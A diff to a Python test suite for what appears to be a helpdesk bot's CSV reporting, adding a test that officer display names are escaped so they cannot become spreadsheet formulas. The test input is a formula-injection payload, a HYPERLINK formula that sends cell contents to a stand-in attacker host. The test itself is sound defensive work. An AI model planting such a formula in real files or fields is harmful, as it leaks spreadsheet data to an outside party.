@@ -32,6 +32,7 @@ from .helpers import (
     REDACTED_NIK_TEXT,
     ZONE,
     Clock,
+    local,
     read_csv,
     seed,
 )
@@ -215,6 +216,26 @@ async def test_only_redacted_text_reaches_the_files(report: OfficeReport, tmp_pa
     assert REDACTED_NIK_TEXT in everything  # the redacted text is what is shown
     for text in (PET, *QUEUE):
         assert text in everything
+
+
+async def test_officer_display_names_cannot_become_spreadsheet_formulas(
+    engine: AsyncEngine, tmp_path: Path
+) -> None:
+    # A Telegram display name is chosen by whoever joins the officers' group.
+    name = '=HYPERLINK("https://evil.example/?d="&A1,"Klik")'
+    clock = Clock(local(1, 9))
+    store = Store(engine, clock=clock)
+    ticket = await store.open_ticket(
+        channel="telegram", chat_id="1", user_hash="u", question="q", guesses=(), context=()
+    )
+    clock.now = local(1, 9, 10)
+    assert await store.record_officer_reply(ticket.id, name, name, "sudah kami bantu")
+    report = await collect(
+        ReportQueries(engine), PERIOD, titles={}, now=NOW, remind_after=dt.timedelta(minutes=30)
+    )
+    write_report(report, tmp_path, "csv")
+    (officer,) = read_csv(tmp_path / f"{PREFIX}_petugas.csv")
+    assert officer["petugas"] == "'" + name  # shown as text, never computed
 
 
 async def test_applicants_months_next_to_the_bots_volume(
